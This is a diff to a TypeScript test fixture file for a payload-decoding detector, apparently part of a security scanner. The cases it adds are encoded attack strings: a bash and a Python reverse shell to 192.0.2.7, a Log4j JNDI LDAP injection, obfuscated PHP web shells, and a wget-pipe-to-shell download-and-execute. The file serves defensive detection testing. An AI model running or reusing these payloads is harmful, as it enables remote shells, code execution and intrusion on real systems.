@@ -1,4 +1,4 @@
-import { gzipSync } from 'node:zlib';
+import { deflateRawSync, gzipSync } from 'node:zlib';
 import type { ToolCases } from '../../../src/tools/testing/check-cases.ts';
 
 export const decode: ToolCases = {
@@ -41,6 +41,44 @@ export const decode: ToolCases = {
       source: 'ATT&CK T1059.004; jackson_T, Sometimes the payload for Runtime.exec',
       input: `bash -c {echo,${base64('bash -i >& /dev/tcp/192.0.2.7/4444 0>&1')}}|{base64,-d}|{bash,-i}`,
       ids: ['decode.layer', 'decode.remote-shell'],
+      risk: 'high',
+    },
+    {
+      name: 'a dotless i that becomes an i in capital letters',
+      source: 'GovCERT.ch, Zero-Day Exploit Targeting Popular Java Library Log4j',
+      input: '$' + '{jnd$' + '{upper:ı}:ldap://192.0.2.7/a}',
+      ids: ['decode.jndi'],
+      risk: 'high',
+    },
+    {
+      name: 'a command in the parameter of a page, as a page of PHP runs it',
+      source: 'ATT&CK T1505.003; PHP manual, base64_decode',
+      input: `<?php eval(base64_decode("${base64("eval($_POST['x']);")}")); ?>`,
+      ids: ['decode.dynamic-code', 'decode.layer'],
+      risk: 'medium',
+    },
+    {
+      name: 'compressed code of PHP',
+      source: 'ATT&CK T1027.002; PHP manual, gzinflate',
+      input: `eval(gzinflate(base64_decode('${deflateRawSync('system($_GET[0]);').toString('base64')}')));`,
+      ids: ['decode.dynamic-code', 'decode.layer'],
+      risk: 'medium',
+    },
+    {
+      name: 'a shell in Python for an address',
+      source: 'ATT&CK T1059.006; pentestmonkey, Reverse Shell Cheat Sheet',
+      input: base64(
+        'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("192.0.2.7",1234));' +
+          'os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);p=subprocess.call(["/bin/sh","-i"]);',
+      ),
+      ids: ['decode.layer', 'decode.remote-shell'],
+      risk: 'high',
+    },
+    {
+      name: 'a short command that a shell decodes and runs',
+      source: 'ATT&CK T1140; base64(1)',
+      input: `echo ${base64('wget -qO- x.example|sh')} | base64 -d | sh`,
+      ids: ['decode.download-execute', 'decode.layer'],
       risk: 'high',
     },
     {
